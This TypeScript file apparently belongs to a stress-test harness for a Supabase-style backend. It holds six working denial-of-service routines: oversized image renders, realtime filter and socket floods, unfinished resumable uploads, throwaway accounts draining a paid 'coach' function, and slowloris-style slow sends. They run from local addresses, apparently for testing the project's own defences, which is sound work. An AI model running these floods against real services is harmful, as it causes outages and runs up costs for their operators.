import { randomUUID } from "node:crypto"
import { once } from "node:events"
import { connect, type Socket } from "node:net"
import { setTimeout as delay } from "node:timers/promises"
import sharp from "sharp"
import {
  type Answer,
  json,
  type Line,
  lineFrom,
  renewSession,
  type Server,
  sessionLasts,
  signedIn,
  signUp,
} from "./network.ts"
import { type OpenSocket, openSocket } from "./sockets.ts"

/** Continues one kind of attack until the signal. `told` is called with the server's response, in a word or two. */
export type Attack = (server: Server, told: (answer: string) => void, signal: AbortSignal) => Promise<void>

/** The attacks by name, each from a separate network. */
export const attacks: Record<string, Attack> = {
  pictures: drawHugePictures,
  filters: followWithManyFilters,
  sockets: openManySockets,
  uploads: leaveUploadsUnfinished,
  coach: askTheCoachForOthersMoney,
  bodies: sendSlowly,
}

const account = () => ({ email: `${randomUUID()}@example.com`, password: randomUUID() })
const statusOf = ({ status }: Answer) => (status === 0 ? "no answer" : String(status))

/** Waits, but not beyond the signal. */
const pause = (milliseconds: number, signal: AbortSignal) =>
  delay(milliseconds, undefined, { signal }).catch(() => {})

/** An attacker's own account. Its session is renewed for as long as the attack lasts. */
async function attacker(line: Line) {
  const signedUp = await signUp(line, account())
  if (!signedUp) throw new Error(`${line.address} could not sign up.`)
  let person = signedUp
  let signedInAt = performance.now()
  const token = async () => {
    if (performance.now() - signedInAt > sessionLasts) {
      signedInAt = performance.now()
      person = (await renewSession(line, person.refreshToken)).session ?? person
    }
    return person.token
  }
  return { id: signedUp.id, token, headers: async () => signedIn({ token: await token() }) }
}

/** Sends nine requests at a time for a small file of 50 million pixels, in the format that takes longest. A third leave before the response. */
async function drawHugePictures(server: Server, told: (answer: string) => void, signal: AbortSignal) {
  const line = lineFrom("127.0.1.11", server)
  const person = await attacker(line)
  const path = `avatars/${person.id}/avatar`
  const create = { width: 7_000, height: 7_100, channels: 3, background: "#345" } as const
  const picture = await sharp({ create }).png({ compressionLevel: 9 }).toBuffer()
  const headers = { ...(await person.headers()), "content-type": "image/png", "x-upsert": "true" }
  const stored = await line.ask(`/storage/v1/object/${path}`, { method: "POST", headers, body: picture })
  told(`stored ${statusOf(stored)}`)
  const drawn = `/storage/v1/render/image/authenticated/${path}?format=avif`
  while (!signal.aborted) {
    const as = await person.headers()
    const asking = Array.from({ length: 9 }, async (_, index) => {
      const patience = AbortSignal.timeout(index % 3 === 0 ? 500 : 60_000)
      const answer = await line.ask(`${drawn}&n=${index}`, {
        headers: as,
        signal: AbortSignal.any([patience, signal]),
      })
      told(statusOf(answer))
    })
    await Promise.all(asking)
    await pause(100, signal)
  }
}

/** One person's socket with 75 channels, each following one table by a hundred filters of its own. */
async function followWithManyFilters(server: Server, told: (answer: string) => void, signal: AbortSignal) {
  const line = lineFrom("127.0.1.12", server)
  const person = await attacker(line)
  while (!signal.aborted) {
    const access_token = await person.token()
    const joined = await openSocket(server, line.address)
    if (!joined) told("no socket")
    else {
      for (let channel = 0; channel < 75; channel += 1) {
        const filters = Array.from({ length: 100 }, (_, index) => ({
          ...{ event: "*", schema: "public", table: "latest_changes" },
          filter: `revision=neq.${channel * 100 + index + 1_000_000}`,
        }))
        const config = { postgres_changes: filters }
        const payload = { config, access_token }
        joined.send([String(channel), String(channel), `realtime:f${channel}`, "phx_join", payload])
        await pause(20, signal)
      }
      await pause(50_000, signal)
      for (const [answer, count] of joined.replies) told(`${answer} ×${count}`)
      joined.close()
    }
    await pause(1_000, signal)
  }
}

/** 1,500 sockets without an account from one address. 400 of them send 30 KB of presence each. */
async function openManySockets(server: Server, told: (answer: string) => void, signal: AbortSignal) {
  while (!signal.aborted) {
    const opened: OpenSocket[] = []
    let refused = 0
    for (let socket = 0; socket < 1_500 && !signal.aborted; socket += 50) {
      const some = await Promise.all(Array.from({ length: 50 }, () => openSocket(server, "127.0.1.13")))
      for (const joined of some) {
        if (joined) opened.push(joined)
        else refused += 1
      }
    }
    for (const [index, joined] of opened.slice(0, 400).entries()) {
      const presence = { key: String(index), enabled: true }
      joined.send(["1", "1", "realtime:crowd", "phx_join", { config: { presence } }])
      const payload = { event: "track", payload: { text: "x".repeat(30_000) } }
      joined.send(["1", "2", "realtime:crowd", "presence", { type: "presence", ...payload }])
    }
    await pause(20_000, signal)
    told(`${opened.length} sockets, ${refused} refused`)
    for (const joined of opened) joined.close()
    await pause(1_000, signal)
  }
}

/** 150 uploads at a time to the same path, each missing its last byte. */
async function leaveUploadsUnfinished(server: Server, told: (answer: string) => void, signal: AbortSignal) {
  const line = lineFrom("127.0.1.14", server)
  const person = await attacker(line)
  const coded = (text: string) => Buffer.from(text).toString("base64")
  const place = `bucketName ${coded("progress")},objectName ${coded(`${person.id}/2026-01-01/front`)}`
  const headers = {
    "tus-resumable": "1.0.0",
    "upload-length": "1000000",
    "upload-metadata": `${place},contentType ${coded("image/png")}`,
  }
  const almostAll = Buffer.alloc(999_999, "x")
  const begin = async () => {
    const as = await person.headers()
    const begun = await line.ask("/storage/v1/upload/resumable", {
      method: "POST",
      headers: { ...as, ...headers, "content-type": "application/offset+octet-stream" },
      body: almostAll,
    })
    told(statusOf(begun))
  }
  while (!signal.aborted) {
    for (let round = 0; round < 15; round += 1) await Promise.all(Array.from({ length: 10 }, begin))
    await pause(10_000, signal)
  }
}

/** Accounts without an email address that ask the coach until they reach the limit, each followed by the next one. */
async function askTheCoachForOthersMoney(
  server: Server,
  told: (answer: string) => void,
  signal: AbortSignal,
) {
  const line = lineFrom("127.0.1.15", server)
  while (!signal.aborted) {
    const person = await signUp(line, {})
    if (!person) {
      told("no account")
      await pause(5_000, signal)
      continue
    }
    let status = 200
    while (status === 200 && !signal.aborted) {
      const { headers, ...asked } = json({ feature: "week", today: "2026-11-27", unit: "kg" })
      const answer = await line.ask("/functions/v1/coach", {
        ...asked,
        headers: { ...headers, ...signedIn(person) },
      })
      status = answer.status
      told(statusOf(answer))
    }
    await pause(1_000, signal)
  }
}

/** 400 connections that send one byte every five seconds, of a body or of a header, or nothing at all. */
async function sendSlowly(server: Server, told: (answer: string) => void, signal: AbortSignal) {
  const { hostname, port, host } = new URL(server.url)
  const starts = [
    `POST /rest/v1/rpc/save_workout_log HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n`,
    "GET / HT",
    "",
  ]
  const open = new Set<Socket>()
  const openOne = async (start: string) => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: "127.0.1.16" })
    open.add(socket)
    socket.on("error", () => {})
    socket.on("close", () => open.delete(socket))
    socket.resume()
    await Promise.race([once(socket, "connect"), once(socket, "close")]).catch(() => {})
    if (start !== "") socket.write(start)
  }
  let tick = 0
  while (!signal.aborted) {
    const missing = 400 - open.size
    await Promise.all(
      Array.from({ length: missing }, (_, index) => openOne(starts[index % starts.length] ?? "")),
    )
    await pause(5_000, signal)
    for (const socket of open) if (Math.random() < 0.7) socket.write("x")
    tick += 1
    if (tick % 10 === 0) told(`${400 - missing} of 400 still open after 5 s`)
  }
  for (const socket of open) socket.destroy()
}
